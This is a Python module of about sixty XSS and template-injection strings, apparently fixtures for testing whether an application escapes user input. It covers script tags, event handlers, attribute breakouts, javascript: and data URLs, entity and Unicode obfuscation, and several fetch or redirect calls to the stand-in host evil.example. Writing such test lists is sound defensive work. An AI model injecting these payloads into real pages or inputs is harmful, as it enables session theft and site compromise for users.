"""Markup and script as it may stand in a title, a text, a file's name, a question or a draft.

Whatever takes effect leaves a trace: a dialog, a request to ``HOST``, an element or an attribute with ``MARK`` in it.
"""

from __future__ import annotations

MARK = "hacked"
HOST = "evil.example"

PAYLOADS = (
    # elements with script
    "<script>alert('hacked')</script>",
    "<ScRiPt src=//evil.example/hacked.js></sCrIpT>",
    "<script>fetch('//evil.example/hacked')</script >",
    "<<script>alert('hacked')//<</script>",
    # event handlers
    "<img id=hacked src=x onerror=alert('hacked')>",
    "<img id=hacked src=x:x onerror\n=\nalert('hacked')>",
    "<body id=hacked onload=alert('hacked')>",
    "<details id=hacked open ontoggle=alert('hacked')>",
    "<input id=hacked autofocus onfocus=alert('hacked')>",
    "<video id=hacked><source onerror=alert('hacked')></video>",
    "<marquee id=hacked onstart=alert('hacked')>",
    "<b id=hacked onpointerenter=alert('hacked') style=position:fixed;inset:0>hover</b>",
    # foreign content
    "<svg id=hacked onload=alert('hacked')>",
    "<svg><script>alert('hacked')</script></svg>",
    "<svg><a id=hacked xlink:href=javascript:alert('hacked')><text y=20>x</text></a></svg>",
    "<svg><animate id=hacked onbegin=alert('hacked') attributeName=x dur=1s>",
    "<math><mi id=hacked xlink:href=data:x,alert('hacked')>x</mi></math>",
    "<math><mtext><table><mglyph><style><img id=hacked src=x onerror=alert('hacked')>",
    # what ends the element that it stands in
    "</script><script>alert('hacked')</script>",
    "</textarea><img id=hacked src=x onerror=alert('hacked')>",
    "</title><img id=hacked src=x onerror=alert('hacked')>",
    "</style></noscript></template></iframe><b id=hacked>x</b>",
    "--><img id=hacked src=x onerror=alert('hacked')><!--",
    "]]></blockquote></bdi></main></body></html><b id=hacked>x</b>",
    # what ends the attribute that it stands in
    '" onmouseover="alert(\'hacked\')" autofocus onfocus="alert(\'hacked\')" data-hacked="',
    "' onmouseover='alert(1)' data-hacked='",
    "\"><img id=hacked src=x onerror=alert('hacked')>",
    "'><svg id=hacked onload=alert('hacked')>",
    "` onerror=alert('hacked') data-hacked=`",
    # addresses
    "javascript:alert('hacked')",
    "JaVaScRiPt&colon;alert('hacked')",
    "<a id=hacked href=\"java\tscript:alert('hacked')\">x</a>",
    "[hacked](javascript:alert('hacked'))",
    "![hacked](http://evil.example/hacked.png)",
    "<a id=hacked href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<iframe id=hacked src=data:text/html,<script>alert('hacked')</script>></iframe>",
    "<iframe id=hacked srcdoc='<script>alert(1)</script>'></iframe>",
    "<object id=hacked data=//evil.example/hacked></object><embed id=hacked src=//evil.example/hacked>",
    "<base id=hacked href=//evil.example/>",
    "<meta id=hacked http-equiv=refresh content='0;url=//evil.example/hacked'>",
    "<link id=hacked rel=stylesheet href=//evil.example/hacked.css>",
    "<form id=hacked action=//evil.example/hacked><button>x</button></form>",
    # style
    "<style id=hacked>@import '//evil.example/hacked.css';</style>",
    "<p id=hacked style=\"background:url('//evil.example/hacked.png')\">x</p>",
    # templates
    "{{ hacked.__class__.__mro__ }}{% set hacked = 1 %}",
    "{{constructor.constructor('alert(\"hacked\")')()}}",
    "${alert('hacked')} #{alert('hacked')} <%= hacked %>",
    "{{ 7 * '7' }}{{ self._TemplateReference__context }}",
    # entities, broken and double
    "&lt;img id=hacked src=x onerror=alert('hacked')&gt;",
    "&amp;lt;script&amp;gt;alert('hacked')&amp;lt;/script&amp;gt;",
    "&#60img id=hacked src=x onerror=alert('hacked')&#62",
    "&#x3C;script&#x3E;alert('hacked')&#x3C;/script&#x3E;",
    "&NotAnEntity;&;&#;&#x;&#xD800;&#99999999;<b id=hacked>",
    # Unicode
    "\uff1cimg id=hacked src=x onerror=alert(1)\uff1e",
    "\u2039script\u203ahacked\u2039/script\u203a\u02ba\u02b9",
    "<b\u3000id=hacked>x</b><b\u00a0id=hacked\u200b>x</b>",
    "\u202e<img id=hacked src=x onerror=alert('hacked')>\u202c",
    "<\U000e0073cript>alert('hacked')</\U000e0073cript><img id=hacked src=x\ufeff>",
    "+ADw-script+AD4-alert(hacked)+ADw-/script+AD4-",
    "\u0130<b id=hacked>\u017f\u212a</b>",
)
# What no bulletin can hold, which is refused with such a character, but a question or a draft can.
UNPRINTABLE = (
    "<scr\x00ipt>alert('hacked')</scr\x00ipt><img id=hacked\x00 src=x onerror\x00=alert(1)>",
    "<img\x0cid=hacked\x0bsrc=x\x1fonerror=alert('hacked')>",
    "\x1b]8;;http://evil.example/hacked\x07<b id=hacked>x</b>",
)
